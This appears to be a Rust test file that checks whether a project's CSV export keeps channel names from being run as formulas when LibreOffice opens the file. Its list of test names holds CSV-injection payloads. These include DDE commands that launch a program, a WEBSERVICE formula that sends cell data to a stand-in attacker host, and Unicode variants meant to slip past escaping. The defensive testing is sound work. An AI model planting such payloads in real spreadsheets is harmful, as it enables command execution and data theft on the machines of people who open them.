//! What LibreOffice makes of our tables. It takes LibreOffice (`libreoffice-calc-nogui` on Debian), so it is run by hand:
//! `cargo test --no-default-features --test spreadsheet -- --ignored`.
#![allow(clippy::unwrap_used, reason = "a test may end where it fails")]

use backcast::persist::table::{Cell, csv};
use std::fs;
use std::path::Path;
use std::process::Command;

/// Names that a stranger may have given a channel in a plan that came by link.
const NAMES: [&str; 24] = [
    "=1+1",
    "=HYPERLINK(\"https://evil.example\",\"click\")",
    "=WEBSERVICE(\"https://evil.example/\"&A1)",
    "=cmd|'/C calc'!A0",
    "+1+1",
    "+cmd|'/C calc'!A0",
    "-1+1",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1,1)",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1,1)",
    "−1+1",
    " =1+1",
    "\u{3000}=1+1",
    "\u{feff}=1+1",
    "\u{200b}=1+1",
    "\"=1+1\"",
    "x\",=1+1,\"y",
];

/// The cells of a CSV file as LibreOffice has them, in its flat XML; formulas are evaluated if it can be made to.
fn opened(name: &str, text: &str) -> String {
    let folder = Path::new(env!("CARGO_TARGET_TMPDIR"));
    let file = folder.join(format!("{name}.csv"));
    fs::write(&file, text).unwrap();
    let status = Command::new("soffice")
        .arg(format!("-env:UserInstallation=file://{}/office", folder.display()))
        .args(["--headless", "--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true"])
        .args(["--convert-to", "fods", "--outdir"])
        .args([folder, &file])
        .status()
        .unwrap();
    assert!(status.success());
    fs::read_to_string(folder.join(format!("{name}.fods"))).unwrap()
}

#[test]
#[ignore = "takes LibreOffice"]
fn names_stay_text_and_numbers_stay_numbers() {
    let rows = NAMES.map(|name| vec![Cell::Text(name), Cell::Number(0.125)]);
    let ours = opened("ours", &csv(rows));
    assert_eq!(ours.matches("table:formula").count(), 0, "a name was taken for a formula");
    assert_eq!(ours.matches("office:value-type=\"string\"").count(), NAMES.len());
    assert_eq!(ours.matches("office:value=\"0.125\"").count(), NAMES.len());
    // The same names as they are: the check can see a formula.
    let raw: String = NAMES.map(|name| format!("\"{}\"\r\n", name.replace('"', "\"\""))).concat();
    let formulas = opened("raw", &raw).matches("table:formula").count();
    println!("{formulas} of {} names are formulas when nothing is done", NAMES.len());
    assert!(formulas >= 4, "{formulas}");
}
